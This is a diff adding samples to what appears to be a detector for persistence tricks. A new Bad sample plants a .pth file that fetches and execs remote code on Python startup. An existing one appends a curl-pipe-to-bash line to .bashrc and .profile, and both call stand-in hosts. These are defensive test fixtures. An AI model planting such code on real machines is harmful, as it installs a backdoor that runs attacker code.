@@ -159,6 +159,9 @@ CHECK = Check(
     fix="Remove the code, and look for the entry on every machine that ran it.",
     bad=(
         Bad(
+            "import os, site, sysconfig\nLINE = \"import os;exec(__import__('urllib.request').request.urlopen('http://192.0.2.1/b').read())\"\nfor folder in {sysconfig.get_paths()['purelib'], site.getusersitepackages()}:\n    with open(os.path.join(folder, 'extra.pth'), 'w') as f:\n        f.write(LINE)  # finding\n"
+        ),
+        Bad(
             "from pathlib import Path\nSTEPS = (('.bashrc', '\\n(curl -s https://f.example.invalid/r | bash &)\\n', 'a'), ('.profile', '\\n(curl -s https://f.example.invalid/r | bash &)\\n', 'a'))\nfor name, text, mode in STEPS:\n    with (Path.home() / name).open(mode) as out:\n        out.write(text)  # finding\n"
         ),
         Bad(
@@ -190,6 +193,9 @@ CHECK = Check(
         ),
     ),
     good=(
+        Good(
+            "import os, sysconfig\n\ndef develop(source):\n    for folder in {sysconfig.get_paths()['purelib']}:\n        with open(os.path.join(folder, 'editable.pth'), 'w') as f:\n            f.write(source + chr(10))\n"
+        ),
         Good("import shutil\nshutil.copy(__file__, '.git/hooks/pre-commit')\n"),
         Good("open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\nexec python3 -m ruff check\\n')\n"),
         Good(
